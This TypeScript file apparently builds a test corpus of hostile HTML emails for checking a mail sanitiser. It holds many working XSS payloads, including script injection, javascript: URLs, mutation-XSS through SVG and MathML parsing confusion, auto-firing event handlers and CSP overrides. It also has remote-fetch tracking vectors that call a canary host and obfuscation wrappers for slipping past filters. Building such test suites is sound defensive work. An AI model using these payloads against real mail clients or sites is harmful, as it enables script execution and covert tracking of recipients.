/** Mails that want to run something, or to tell somebody that they were opened: tricks, and ways to hide each of them. */

type Trick = readonly [name: string, html: (canary: string) => string]

const js = (canary: string): string =>
  `fetch('${canary}/js');new Image().src='${canary}/img';parent.postMessage('ran','*');alert(1)`
const inAttribute = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')

/** What runs. */
const RUNNING: readonly Trick[] = [
  ['script', (c) => `<script>${js(c)}</script>`],
  ['script of elsewhere', (c) => `<script src="${c}/s.js"></script>`],
  ['module', (c) => `<script type="module">import '${c}/m.js'</script>`],
  ['script in svg', (c) => `<svg><script>${js(c)}</script></svg>`],
  ['script href in svg', (c) => `<svg><script href="${c}/s.js"></script></svg>`],
  ['script in math', (c) => `<math><mtext><script>${js(c)}</script></mtext></math>`],
  ['script that is never closed', (c) => `<script>${js(c)}//`],
  ['script within a comment that ends early', (c) => `<!--><script>${js(c)}</script>-->`],
  ['script within noscript', (c) => `<noscript><p title="</noscript><script>${js(c)}</script>"></noscript>`],
  ['script within style', (c) => `<style><!--</style><script>${js(c)}</script>--></style>`],
  ['script within title', (c) => `<title><a title="</title><script>${js(c)}</script>"></title>`],
  ['script within textarea', (c) => `<textarea><a title="</textarea><script>${js(c)}</script>"></textarea>`],
  [
    'script within template',
    (c) =>
      `<template><script>${js(c)}</script></template><template shadowrootmode="open"><script>${js(c)}</script></template>`,
  ],
  ['script in two halves', (c) => `<scr<script>ipt>${js(c)}</scr</script>ipt>`],
  ['script after a null', (c) => `<\u0000script>${js(c)}</script>`],
  ['frame of words', (c) => `<iframe srcdoc="${inAttribute(`<script>${js(c)}</script>`)}"></iframe>`],
  ['frame that runs', (c) => `<iframe src="javascript:${inAttribute(js(c))}"></iframe>`],
  [
    'frame of data',
    (c) => `<iframe src="data:text/html,${encodeURIComponent(`<script>${js(c)}</script>`)}"></iframe>`,
  ],
  [
    'object of data',
    (c) => `<object data="data:text/html,${encodeURIComponent(`<script>${js(c)}</script>`)}"></object>`,
  ],
  [
    'embedded data',
    (c) =>
      `<embed src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>${js(c)}</script></svg>`)}">`,
  ],
  [
    'link that runs by itself',
    (c) => `<a href="javascript:${inAttribute(js(c))}" autofocus onfocus="${inAttribute(js(c))}">x</a>`,
  ],
  [
    'form that runs',
    (c) =>
      `<form action="javascript:${inAttribute(js(c))}"><input autofocus onfocus="this.form.submit()"><button id="b">x</button></form>`,
  ],
  ['meta that runs', (c) => `<meta http-equiv="refresh" content="0;url=javascript:${inAttribute(js(c))}">`],
  [
    'animated link',
    (c) =>
      `<svg><a><animate attributeName="href" values="javascript:${inAttribute(js(c))}" begin="0s" /><text y="9">x</text></a></svg>`,
  ],
  [
    'set that runs',
    (c) =>
      `<svg><set attributeName="onmouseover" to="${inAttribute(js(c))}" begin="0s" onbegin="${inAttribute(js(c))}"/></svg>`,
  ],
  [
    'use of data',
    (c) =>
      `<svg><use href="data:image/svg+xml,${encodeURIComponent(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="${c}/use" onload="${js(c)}"/></svg>`)}#x"/></svg>`,
  ],
  [
    'foreign object',
    (c) => `<svg><foreignObject><iframe onload="${inAttribute(js(c))}"></iframe></foreignObject></svg>`,
  ],
  [
    'import map',
    (c) =>
      `<script type="importmap">{"imports":{"a":"${c}/map.js"}}</script><script type="module">import 'a'</script>`,
  ],
]

/** Names of events that fire without anybody. */
const EVENTS: readonly Trick[] = [
  'img src=x onerror',
  'img src=data:, onerror',
  'svg onload',
  'body onload',
  'body onpageshow',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'details open ontoggle',
  'video src=x onerror',
  'audio src=x onerror',
  'video autoplay onloadstart',
  'marquee onstart',
  'iframe onload',
  'object data=x onerror',
  'embed src=x onload',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'div style="animation:a 1ms" onanimationstart',
  'p style="transition:color 1ms" ontransitionend',
  'div contenteditable autofocus onfocus',
  'input type=image src=x onerror',
  'picture><source srcset=x><img onerror',
  'svg><image href=x onerror',
  'svg><animate onbegin',
  'math><mi onload',
  'dialog open oncancel',
  'div popover ontoggle',
  'frameset onload',
  'xss onscrollsnapchange',
  'button popovertarget=x autofocus onfocus',
].map((start): Trick => [start, (c) => `<style>@keyframes a{}</style><${start}="${inAttribute(js(c))}">x`])

/** What asks somebody else for something. */
const ASKING: readonly Trick[] = [
  ['style sheet', (c) => `<link rel="stylesheet" href="${c}/l.css">`],
  ['imported style', (c) => `<style>@import '${c}/i.css';@import url(${c}/j.css);</style>`],
  [
    'picture behind words',
    (c) =>
      `<style>body{background:url(${c}/b.png)}</style><p style="background-image:url('${c}/p.png')">x</p>`,
  ],
  [
    'old backgrounds',
    (c) =>
      `<table background="${c}/t.png"><tr><td background="${c}/d.png">x</table><body background="${c}/y.png">`,
  ],
  [
    'letters of elsewhere',
    (c) => `<style>@font-face{font-family:f;src:url(${c}/f.woff2)}p{font-family:f}</style><p>x</p>`,
  ],
  [
    'drawn by style',
    (c) =>
      `<style>p::before{content:url(${c}/c.png)}li{list-style:url(${c}/li.png)}div{cursor:url(${c}/cur.png),auto;border-image:url(${c}/bi.png) 1;mask:url(${c}/m.svg#a);filter:url(${c}/fi.svg#a);clip-path:url(${c}/cp.svg#a)}</style><p>x</p><ul><li>x</ul><div>x</div>`,
  ],
  [
    'set of pictures in style',
    (c) =>
      `<p style="background:image-set('${c}/is.png' 1x)">x</p><p style="background:-webkit-image-set(url(${c}/wis.png) 1x)">x</p>`,
  ],
  [
    'style that reads',
    (c) => `<style>input[value^=a]{background:url(${c}/a)}a:visited{color:red}</style><input value="abc">`,
  ],
  [
    'sound and film',
    (c) =>
      `<audio src="${c}/a.mp3" autoplay preload="auto"></audio><video src="${c}/v.mp4" poster="${c}/poster.png" autoplay></video><video><source src="${c}/s.mp4"><track src="${c}/t.vtt" default></video>`,
  ],
  ['frames', (c) => `<iframe src="${c}/frame"></iframe><frameset><frame src="${c}/fs"></frameset>`],
  [
    'objects',
    (c) =>
      `<object data="${c}/o.swf"></object><embed src="${c}/e.swf"><applet archive="${c}/ap.jar" code="x"></applet>`,
  ],
  [
    'what is fetched ahead',
    (c) =>
      [
        'preload" as="image',
        'prefetch',
        'preconnect',
        'modulepreload',
        'icon',
        'manifest',
        'prerender',
        'dns-prefetch',
        'alternate stylesheet',
        'import',
      ]
        .map((rel) => `<link rel="${rel}" href="${c}/${rel.slice(0, 4)}">`)
        .join(''),
  ],
  ['leads away', (c) => `<meta http-equiv="refresh" content="0;url=${c}/meta">`],
  ['leads away, written badly', (c) => `<META HTTP-EQUIV=Refresh CONTENT='0;${c}/meta2'>`],
  ['base of elsewhere', (c) => `<base href="${c}/"><img src="rel.png"><link rel=stylesheet href="rel.css">`],
  [
    'form that sends itself',
    (c) =>
      `<form action="${c}/form" method="post"><input name="a" value="b"><input type="image" src="${c}/ii.png" autofocus></form>`,
  ],
  [
    'drawings',
    (c) =>
      `<svg><image href="${c}/si.png"/><image xlink:href="${c}/sx.png"/><use href="${c}/su.svg#a"/><feImage href="${c}/fe.png"/><defs><pattern id="a"><image href="${c}/sp.png"/></pattern></defs></svg>`,
  ],
  [
    'style in a drawing',
    (c) =>
      `<svg><style>@import '${c}/svg.css';*{fill:url(${c}/fill.svg#a)}</style><rect width="9" height="9"/></svg>`,
  ],
  ['xml style', (c) => `<?xml-stylesheet href="${c}/x.css"?><p>x</p>`],
  [
    'speculation',
    (c) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${c}/spec"]}]}</script>`,
  ],
  ['ping', (c) => `<a href="#x" ping="${c}/ping" id="x" autofocus>x</a>`],
  ['picture', (c) => `<img src="${c}/open.png" width="1" height="1">`],
  [
    'sets of pictures',
    (c) =>
      `<img srcset="${c}/1x.png 1x, ${c}/2x.png 2x"><picture><source srcset="${c}/pic.png"><img src="${c}/pf.png"></picture>`,
  ],
  [
    'lazy picture',
    (c) =>
      `<img loading="eager" fetchpriority="high" src="${c}/lazy.png"><img lowsrc="${c}/low.png" dynsrc="${c}/dyn.png" longdesc="${c}/long">`,
  ],
  [
    'policy of its own',
    (c) =>
      `<meta http-equiv="Content-Security-Policy" content="img-src *; script-src * 'unsafe-inline'"><img src="${c}/own.png"><script>${js(c)}</script>`,
  ],
]

/** How a trick is dressed. */
const DRESSES: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `<div><p>Hello</p>${html}</div>`,
  (html) => `<html><head><title>x</title></head><body>${html}</body></html>`,
  (html) =>
    html.replaceAll(
      /<(\/?)([a-z]+)/gi,
      (_, slash: string, name: string) =>
        `<${slash}${[...name].map((sign, at) => (at % 2 === 0 ? sign.toUpperCase() : sign)).join('')}`,
    ),
  (html) => html.replaceAll(/<([a-z]+) /gi, '<$1/\t'),
  (html) => html.replaceAll(/<([a-z]+) /gi, '<$1\n\f'),
  (html) => `<table><tr><td>${html}</table>`,
  (html) => `<svg></p><style><a id="</style>${html.replaceAll('"', "'")}">`,
  (html) => `<math><mtext><table><mglyph><style><!--</style>${html}`,
  (html) => `<!--[if mso]>${html}<![endif]--><![if !mso]>${html}<![endif]>`,
  (html) => html.replaceAll('javascript:', 'java&Tab;script&colon;').replaceAll('http:', 'http&#58;'),
  (html) => `<form><math><mtext></form><form><mglyph><style></math>${html}`,
]

/** A thousand mails and more; `canary` is a server that must never hear of them. */
export const hostileMails = (canary: string): readonly string[] =>
  [...RUNNING, ...EVENTS, ...ASKING].flatMap(([, html]) => DRESSES.map((dress) => dress(html(canary))))
